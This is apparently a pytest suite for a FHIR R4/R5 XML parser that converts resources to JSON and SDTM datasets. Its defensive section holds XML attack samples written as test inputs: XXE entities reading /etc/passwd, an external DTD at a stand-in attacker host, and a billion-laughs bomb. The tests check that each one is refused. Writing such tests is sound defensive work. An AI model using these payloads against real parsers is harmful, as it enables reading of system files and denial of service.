"""fhir/xml.py: FHIR XML (R4, R5) read safely into exactly the JSON dict of the same resource.

The published HL7 examples (../shared/external/fhir-examples/r4|r5/xml) against their JSON twins;
hand-written XML for primitives with extensions, decimals, booleans and the release guess; the
attacks a hospital boundary must stand (DOCTYPE/XXE, billion laughs, deep nesting, malformed XML);
and to_sdtm on an XML export of tests/data/mini-r4.json against the JSON, dataset by dataset.

Narratives (text.div) are compared as XHTML after canonicalisation (C14N) with runs of whitespace
collapsed, because the JSON twins escape differently (&quot; vs ") and the HL7 build generated the
JSON narratives with dd/mm/yyyy dates where the XML ones say "Jan 29, 2017": those dates are mapped
to one form before comparing. Nothing else is normalised.
"""

from __future__ import annotations

import codecs
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pandas.testing
import pytest
from conftest import DATA, EXTERNAL, need_external
from lxml import etree

from tcim_interop.errors import InputError
from tcim_interop.fhir import xml as fxml
from tcim_interop.fhir.read import NotFhirError, read_file
from tcim_interop.fhir.xml import parse_xml

FHIR = "http://hl7.org/fhir"
F = "{%s}" % FHIR


# --- a small JSON -> XML serializer (the inverse of the module, for the round trips) --------------

def to_xml(resource: dict) -> bytes:
    root = etree.Element(F + resource["resourceType"], nsmap={None: FHIR})
    _fill(root, resource, is_resource=True)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _fill(el, obj: dict, is_resource: bool) -> None:
    local = etree.QName(el).localname
    names = []
    for key in obj:
        name = key[1:] if key.startswith("_") else key
        if name != "resourceType" and name not in names:
            names.append(name)
    for name in names:
        value, extra = obj.get(name), obj.get("_" + name)
        if name == "id" and not is_resource:
            el.set("id", value)
        elif name == "url" and local in ("extension", "modifierExtension"):
            el.set("url", value)
        elif name == "div":
            el.append(etree.fromstring(value))
        elif isinstance(value, dict) or (isinstance(value, list) and any(isinstance(v, dict) for v in value)):
            for item in value if isinstance(value, list) else [value]:
                child = etree.SubElement(el, F + name)
                if "resourceType" in item:
                    inner = etree.SubElement(child, F + item["resourceType"])
                    _fill(inner, item, is_resource=True)
                else:
                    _fill(child, item, is_resource=False)
        else:
            values = value if isinstance(value, list) else [value]
            extras = extra if isinstance(extra, list) else [extra]
            for i in range(max(len(values), len(extras))):
                child = etree.SubElement(el, F + name)
                v = values[i] if i < len(values) else None
                if v is not None:
                    child.set("value", "true" if v is True else "false" if v is False else str(v))
                x = extras[i] if i < len(extras) else None
                if x:
                    _fill(child, x, is_resource=False)


# --- comparing with the JSON twins ----------------------------------------------------------------

_MONTHS = {m: i for i, m in enumerate("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(), start=1)}


def _div_key(div: str) -> str:
    text = etree.tostring(etree.fromstring(div), method="c14n").decode()
    text = re.sub(r"\b(%s) (\d{1,2}), (\d{4})" % "|".join(_MONTHS),
                  lambda m: f"{int(m[2]):02d}/{_MONTHS[m[1]]:02d}/{m[3]}", text)
    return " ".join(text.split())


def comparable(obj):
    """obj with every Narrative div replaced by its canonical form (see the module docstring)."""
    if isinstance(obj, dict):
        return {k: (_div_key(v) if k == "div" and isinstance(v, str) else comparable(v)) for k, v in obj.items()}
    if isinstance(obj, list):
        return [comparable(v) for v in obj]
    return obj


def _xml_examples():
    files = sorted(EXTERNAL.glob("fhir-examples/r*/xml/*.xml"))
    return files or [None]


def _json_examples():
    files = sorted(p for p in EXTERNAL.glob("fhir-examples/r*/*.json") if p.name != "package.json"
                   and not p.name.endswith(".schema.json"))
    return files or [None]


def _twin(xml_file: Path) -> dict | None:
    doc = parse_xml(xml_file.read_bytes(), str(xml_file))
    for j in sorted(xml_file.parent.parent.glob("*.json")):
        d = json.loads(j.read_bytes())
        if isinstance(d, dict) and (d.get("resourceType"), d.get("id")) == (doc["resourceType"], doc.get("id")):
            return d
    return None


# The R5 example has no JSON twin in ../shared: expected as read off the XML by hand.
NO_TWIN = {
    ("r5", "adverseevent-example.xml"): {
        "resourceType": "AdverseEvent", "id": "example",
        "identifier": [{"system": "http://acme.com/ids/patients/risks", "value": "49476534"}],
        "status": "completed", "actuality": "actual",
        "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/adverse-event-category",
                                  "code": "product-use-error", "display": "Product Use Error"}]}],
        "code": {"coding": [{"system": "http://snomed.info/sct", "code": "304386008", "display": "O/E - itchy rash"}],
                 "text": "This was a mild rash on the left forearm"},
        "subject": {"reference": "Patient/example"},
        "occurrenceDateTime": "2017-01-29T12:34:56+00:00",
        "seriousness": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/adverse-event-seriousness",
                                    "code": "non-serious", "display": "Non-serious"}]},
        "recorder": {"reference": "Practitioner/example"},
        "suspectEntity": [{"instanceReference": {"reference": "Medication/example"}}],
    },
}


@pytest.mark.parametrize("path", _xml_examples(), ids=lambda p: p and f"{p.parent.parent.name}/{p.name}")
def test_hl7_example_equals_its_json_twin(path):
    if path is None:
        need_external("fhir-examples", "r4", "xml")
    got = parse_xml(path.read_bytes(), str(path))
    expected = _twin(path) or NO_TWIN.get((path.parent.parent.name, path.name))
    assert expected is not None, f"{path}: no JSON twin (resourceType/id) and no expected dict"
    if "text" in got and "div" in got["text"]:
        assert got["text"]["div"].startswith('<div xmlns="http://www.w3.org/1999/xhtml">')
    assert comparable(got) == comparable(expected)


def test_hl7_examples_are_all_there():
    need_external("fhir-examples", "r4", "xml")
    names = {f"{p.parent.parent.name}/{p.name}" for p in _xml_examples()}
    assert {"r4/patient-example.xml", "r4/bundle-example.xml", "r5/adverseevent-example.xml"} <= names


def test_hl7_examples_validate_in_their_release():
    need_external("fhir-examples", "r4", "xml")
    from tcim_interop.fhir.validate import validation_error

    for path in _xml_examples():
        release = path.parent.parent.name.upper()
        assert validation_error(parse_xml(path.read_bytes(), str(path)), release) is None, path


@pytest.mark.parametrize("path", _json_examples(), ids=lambda p: p and f"{p.parent.name}/{p.name}")
def test_hl7_json_examples_round_trip_through_xml(path):
    """Every JSON example (Bundles, Observations, R5 ResearchStudy...), written as XML and read back."""
    if path is None:
        need_external("fhir-examples", "r4")
    doc = json.loads(path.read_bytes())
    assert comparable(parse_xml(to_xml(doc), path.name)) == comparable(doc)


# --- hand-written XML ---------------------------------------------------------------------------

PATIENT = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment before the root is fine -->
<Patient xmlns="http://hl7.org/fhir">
  <id value="p1"/>
  <meta><lastUpdated value="2021-06-01T10:00:00Z"/></meta>
  <extension url="http://hl7.org/fhir/StructureDefinition/patient-birthPlace">
    <valueAddress><city value="Sevilla"/></valueAddress>
  </extension>
  <identifier id="i1"><system value="urn:oid:1.2.3"/><value value="001"/></identifier>
  <active value="true"/>
  <name>
    <use value="official"/>
    <family value="Garc&#237;a"/>
    <given value="Ana"/>
    <given id="g2"><extension url="http://example.org/abbrev"><valueBoolean value="false"/></extension></given>
    <given value="Mar&#237;a"/>
  </name>
  <gender value="female"/>
  <birthDate id="bd" value="1961-05-02">
    <extension url="http://hl7.org/fhir/StructureDefinition/patient-birthTime">
      <valueDateTime value="1961-05-02T14:35:45-05:00"/>
    </extension>
  </birthDate>
  <deceasedBoolean value="false"/>
  <multipleBirthInteger value="2"/>
  <photo><contentType value="image/png"/><size value="1024"/></photo>
</Patient>
"""

PATIENT_JSON = {
    "resourceType": "Patient", "id": "p1", "meta": {"lastUpdated": "2021-06-01T10:00:00Z"},
    "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/patient-birthPlace",
                   "valueAddress": {"city": "Sevilla"}}],
    "identifier": [{"id": "i1", "system": "urn:oid:1.2.3", "value": "001"}],
    "active": True,
    "name": [{"use": "official", "family": "García", "given": ["Ana", None, "María"],
              "_given": [None, {"id": "g2", "extension": [{"url": "http://example.org/abbrev", "valueBoolean": False}]},
                         None]}],
    "gender": "female",
    "birthDate": "1961-05-02",
    "_birthDate": {"id": "bd", "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/patient-birthTime",
                                              "valueDateTime": "1961-05-02T14:35:45-05:00"}]},
    "deceasedBoolean": False,
    "multipleBirthInteger": 2,
    "photo": [{"contentType": "image/png", "size": 1024}],
}


def test_patient_with_extensions_on_primitives():
    got = parse_xml(PATIENT, "patient.xml")
    assert got == PATIENT_JSON
    assert type(got["photo"][0]["size"]) is int and got["active"] is True and got["deceasedBoolean"] is False


OBSERVATION = b"""<Observation xmlns="http://hl7.org/fhir">
  <id value="o1"/>
  <status value="final"/>
  <code id="c"><coding><system value="http://loinc.org"/><code value="85354-9"/></coding></code>
  <subject><reference value="Patient/p1"/></subject>
  <effectiveDateTime value="2021-06-01T10:00:00Z"/>
  <component>
    <code><text value="systolic"/></code>
    <valueQuantity><value value="120.50"/><unit value="mm[Hg]"/></valueQuantity>
  </component>
  <component>
    <code><text value="diastolic"/></code>
    <valueQuantity><value value="80"/><comparator value="&lt;"/></valueQuantity>
  </component>
  <component>
    <code><text value="exponent"/></code>
    <valueQuantity><value value="1.5e2"/></valueQuantity>
  </component>
  <component>
    <code><text value="one"/></code>
    <valueQuantity><value value="-0.0010"/></valueQuantity>
  </component>
  <component>
    <code><text value="flag"/></code>
    <valueBoolean value="true"/>
  </component>
  <component>
    <code><text value="count"/></code>
    <valueInteger value="-3"/>
  </component>
  <referenceRange><low><value value="90"/></low><high><value value="1.0"/></high></referenceRange>
  <note><text value="  spaces and a line&#10;break kept  "/></note>
</Observation>
"""


def test_observation_numbers_booleans_and_lists():
    got = parse_xml(OBSERVATION, "obs.xml")
    comps = got["component"]
    assert got["code"] == {"id": "c", "coding": [{"system": "http://loinc.org", "code": "85354-9"}]}
    assert comps[0]["valueQuantity"] == {"value": 120.5, "unit": "mm[Hg]"}
    assert comps[1]["valueQuantity"] == {"value": 80, "comparator": "<"}
    assert type(comps[1]["valueQuantity"]["value"]) is int
    assert comps[2]["valueQuantity"]["value"] == 150.0 and type(comps[2]["valueQuantity"]["value"]) is float
    assert comps[3]["valueQuantity"]["value"] == -0.001
    assert comps[4]["valueBoolean"] is True
    assert comps[5]["valueInteger"] == -3
    # one referenceRange is still an array; high 1.0 is the float a JSON parser gives for 1.0
    assert got["referenceRange"] == [{"low": {"value": 90}, "high": {"value": 1.0}}]
    assert type(got["referenceRange"][0]["high"]["value"]) is float
    assert got["note"] == [{"text": "  spaces and a line\nbreak kept  "}]
    # the same numbers as orjson reads the same texts
    import orjson

    for text in ("120.50", "80", "1.5e2", "-0.0010", "1.0", "0"):
        value = fxml._typed(text, "decimal")
        assert value == orjson.loads(text) and type(value) is type(orjson.loads(text))


def test_values_invalid_for_their_type_stay_strings_for_validation():
    xml = b"""<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code>
      <valueQuantity><value value="1,5"/></valueQuantity>
      <component><code><text value="b"/></code><valueBoolean value="yes"/></component>
      <component><code><text value="i"/></code><valueInteger value="1.5"/></component></Observation>"""
    got = parse_xml(xml, "bad.xml")
    assert got["valueQuantity"]["value"] == "1,5"
    assert got["component"][0]["valueBoolean"] == "yes"
    assert got["component"][1]["valueInteger"] == "1.5"
    from tcim_interop.fhir.validate import validation_error

    assert validation_error(got, "R4")


def test_unknown_and_repeated_single_elements_are_kept_for_validation():
    xml = b"""<Patient xmlns="http://hl7.org/fhir"><gender value="male"/><gender value="female"/>
      <favouriteColour value="blue"/><pet><name value="Rex"/></pet></Patient>"""
    got = parse_xml(xml, "odd.xml")
    assert got == {"resourceType": "Patient", "gender": ["male", "female"], "favouriteColour": "blue",
                   "pet": {"name": "Rex"}}


def test_contained_and_bundle_resources_are_unwrapped():
    xml = b"""<Bundle xmlns="http://hl7.org/fhir"><type value="collection"/>
      <entry><fullUrl value="urn:uuid:1"/><resource><MedicationAdministration>
        <contained><Medication><id value="m"/><code><text value="BMNC"/></code></Medication></contained>
        <status value="completed"/><medicationReference><reference value="#m"/></medicationReference>
        <subject><reference value="Patient/p"/></subject><effectiveDateTime value="2021-06-01"/>
      </MedicationAdministration></resource></entry></Bundle>"""
    got = parse_xml(xml, "b.xml")
    assert got["entry"] == [{"fullUrl": "urn:uuid:1", "resource": {
        "resourceType": "MedicationAdministration",
        "contained": [{"resourceType": "Medication", "id": "m", "code": {"text": "BMNC"}}],
        "status": "completed", "medicationReference": {"reference": "#m"},
        "subject": {"reference": "Patient/p"}, "effectiveDateTime": "2021-06-01"}}]


def test_narrative_div_is_kept_as_xhtml_string():
    xml = b"""<Patient xmlns="http://hl7.org/fhir" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
      <text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p>A &amp; B <b>c</b></p></div></text>
    </Patient>"""
    got = parse_xml(xml, "n.xml")
    assert got["text"] == {"status": "generated",
                           "div": '<div xmlns="http://www.w3.org/1999/xhtml"><p>A &amp; B <b>c</b></p></div>'}


ENCOUNTER_R5 = b"""<Encounter xmlns="http://hl7.org/fhir"><status value="completed"/>
  <class><coding><system value="http://terminology.hl7.org/CodeSystem/v3-ActCode"/><code value="AMB"/></coding></class>
  <subject><reference value="Patient/p"/></subject></Encounter>"""
ENCOUNTER_R4 = b"""<Encounter xmlns="http://hl7.org/fhir"><status value="finished"/>
  <class><system value="http://terminology.hl7.org/CodeSystem/v3-ActCode"/><code value="AMB"/></class>
  <subject><reference value="Patient/p"/></subject></Encounter>"""


def test_release_from_the_models_when_no_element_tells():
    """One <class>: R4 Coding (0..1) or R5 CodeableConcept (0..*); only the models can tell."""
    r5 = parse_xml(ENCOUNTER_R5, "e5.xml")
    r4 = parse_xml(ENCOUNTER_R4, "e4.xml")
    assert r5["class"] == [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"}]}]
    assert r4["class"] == {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"}
    from tcim_interop.fhir.validate import validation_error

    assert validation_error(r5, "R5") is None and validation_error(r4, "R4") is None


def test_release_told_by_an_element():
    xml = b"""<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code>
      <triggeredBy><observation><reference value="Observation/o"/></observation><type value="reflex"/></triggeredBy>
    </Observation>"""
    got = parse_xml(xml, "o5.xml")
    assert got["triggeredBy"] == [{"observation": {"reference": "Observation/o"}, "type": "reflex"}]


def test_entries_take_the_documents_release():
    """An R5 Patient-only entry (nothing tells) still reads with R5 shapes beside R5 entries."""
    xml = b"""<Bundle xmlns="http://hl7.org/fhir"><type value="collection"/>
      <entry><resource>""" + ENCOUNTER_R5.replace(b' xmlns="http://hl7.org/fhir"', b"") + b"""</resource></entry>
      <entry><resource><Encounter><status value="completed"/><actualPeriod><start value="2021"/></actualPeriod>
      </Encounter></resource></entry></Bundle>"""
    got = parse_xml(xml, "b5.xml")
    assert isinstance(got["entry"][0]["resource"]["class"], list)
    assert got["entry"][1]["resource"]["actualPeriod"] == {"start": "2021"}
    assert fxml._document_release(etree.fromstring(xml)) == "R5"


# --- what a hospital boundary must stand ------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><id value="x"/><name><family value="&xxe;"/><text>&xxe;</text></name></Patient>
"""
XXE_HTTP = b"""<?xml version="1.0"?><!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">
<Patient xmlns="http://hl7.org/fhir"><id value="x"/></Patient>"""
LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b']>\n<Patient xmlns="http://hl7.org/fhir"><id value="&lol9;"/><name><text>&lol9;</text></name></Patient>\n')


def _refused(raw: bytes, name: str = "evil.xml") -> str:
    with pytest.raises(InputError) as e:
        parse_xml(raw, name)
    message = str(e.value)
    assert name in message and "\n" not in message
    assert "/etc/passwd" not in message and "root:" not in message
    return message


@pytest.mark.parametrize("raw", [XXE, XXE_HTTP, LAUGHS,
                                 b"<!-- c --><?pi x?>\n" + XXE.split(b"\n", 1)[1],
                                 XXE.decode().replace('<?xml version="1.0"?>', "").encode("utf-16"),
                                 XXE.decode().replace('<?xml version="1.0"?>', "").strip().encode("utf-16-be"),
                                 XXE.decode().replace('<?xml version="1.0"?>', "").encode("utf-16-le"),
                                 codecs.BOM_UTF8 + XXE],
                         ids=["xxe-file", "xxe-http", "laughs", "after-comment", "utf-16", "utf-16-be-no-bom", "utf-16-le-no-bom-newline", "bom"])
def test_doctype_is_refused(raw):
    assert "DOCTYPE not allowed" in _refused(raw)


XXE_DECLARED = XXE.replace(b'<family value="&xxe;"/>', b"")  # the entity in text only: lxml parses it
XXE_UNUSED = XXE.replace(b'<name><family value="&xxe;"/><text>&xxe;</text></name>', b"")


@pytest.mark.parametrize("raw", [XXE, XXE_HTTP, LAUGHS, XXE_DECLARED, XXE_UNUSED],
                         ids=["xxe-attribute", "xxe-http-dtd", "laughs", "xxe-text", "xxe-unused"])
def test_doctype_refused_after_parsing_too(raw, monkeypatch):
    """Should the first look miss a DOCTYPE (an exotic encoding), the parsed document is still refused,
    and nothing an entity points at is read or expanded on the way."""
    monkeypatch.setattr(fxml, "_has_doctype", lambda raw: False)
    start = time.perf_counter()
    message = _refused(raw)
    assert time.perf_counter() - start < 1
    if raw in (XXE_DECLARED, XXE_UNUSED, XXE_HTTP):
        assert "DOCTYPE not allowed" in message


def test_billion_laughs_fails_fast():
    start = time.perf_counter()
    _refused(LAUGHS, "laughs.xml")
    assert time.perf_counter() - start < 1


def test_xxe_through_read_file_and_to_sdtm(tmp_path):
    from tcim_interop import to_sdtm

    path = tmp_path / "patient.xml"
    path.write_bytes(XXE)
    with pytest.raises(InputError, match="DOCTYPE not allowed") as e:
        list(read_file(path))
    assert "passwd" not in str(e.value)
    with pytest.raises(InputError) as e:
        to_sdtm([path])
    assert "passwd" not in str(e.value) and "root:" not in str(e.value)


@pytest.mark.parametrize("levels", [10_000, 150])
def test_deep_nesting_is_refused(levels):
    raw = b'<Patient xmlns="http://hl7.org/fhir">' + b"<a>" * levels + b"</a>" * levels + b"</Patient>"
    start = time.perf_counter()
    assert f"nested deeper than {fxml.MAX_DEPTH} levels" in _refused(raw, "deep.xml")
    assert time.perf_counter() - start < 1


def test_nesting_up_to_the_limit_is_read():
    levels = fxml.MAX_DEPTH - 1
    raw = b'<Patient xmlns="http://hl7.org/fhir">' + b"<a>" * levels + b"</a>" * levels + b"</Patient>"
    assert parse_xml(raw, "ok.xml")["resourceType"] == "Patient"


def test_oversized_input_is_refused(monkeypatch):
    monkeypatch.setattr(fxml, "MAX_BYTES", 100)
    assert "over the limit" in _refused(PATIENT, "big.xml")


@pytest.mark.parametrize("raw, line", [
    (b'<Patient xmlns="http://hl7.org/fhir">\n<id value="x">\n</Patient>', 3),
    (b'<Patient xmlns="http://hl7.org/fhir">\n\n<id value="x"/>\n', 4),
    (b'<Patient xmlns="http://hl7.org/fhir">\n<id value="&foo;"/></Patient>', 2),
    (b'<Patient xmlns="http://hl7.org/fhir">\n<id value="x"/></Patient>\n<Patient/>', 3),
])
def test_malformed_xml_names_file_and_line(raw, line):
    message = _refused(raw, "broken.xml")
    assert message.startswith(f"broken.xml: line {line}: not well-formed XML")


def test_not_fhir_xml_is_not_fhir(tmp_path):
    with pytest.raises(NotFhirError, match="not a FHIR resource"):
        parse_xml(b'<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion/></project>', "pom.xml")
    with pytest.raises(NotFhirError):
        parse_xml(b"<Patient><id value='x'/></Patient>", "nons.xml")
    with pytest.raises(InputError, match="line 2: element <x> is in namespace urn:x"):
        parse_xml(b'<Patient xmlns="http://hl7.org/fhir">\n<x xmlns="urn:x"/></Patient>', "mixed.xml")


def test_lxml_is_not_imported_for_json_input():
    code = ("import sys; from pathlib import Path; from tcim_interop.fhir.read import read_file; "
            f"assert list(read_file(Path({str(DATA / 'mini-r4.json')!r}))); "
            "assert 'lxml' not in sys.modules, 'lxml imported'")
    subprocess.run([sys.executable, "-c", code], check=True)


# --- end to end: the same SDTM from XML as from JSON ------------------------------------------------------

def test_to_sdtm_on_xml_equals_json(tmp_path):
    from tcim_interop import to_sdtm

    doc = json.loads((DATA / "mini-r4.json").read_bytes())
    raw = to_xml(doc)
    assert parse_xml(raw, "mini-r4.xml") == doc
    path = tmp_path / "mini-r4.xml"
    path.write_bytes(raw)
    from_json = to_sdtm([DATA / "mini-r4.json"])
    from_xml = to_sdtm([path])
    assert sorted(from_xml.datasets) == sorted(from_json.datasets)
    assert any(len(f) for f in from_json.datasets.values())
    for name, frame in from_json.datasets.items():
        pandas.testing.assert_frame_equal(from_xml.datasets[name], frame, obj=name)
    codes = lambda r: sorted((f.severity, f.code) for f in r.report.findings)  # noqa: E731
    assert codes(from_xml) == codes(from_json)
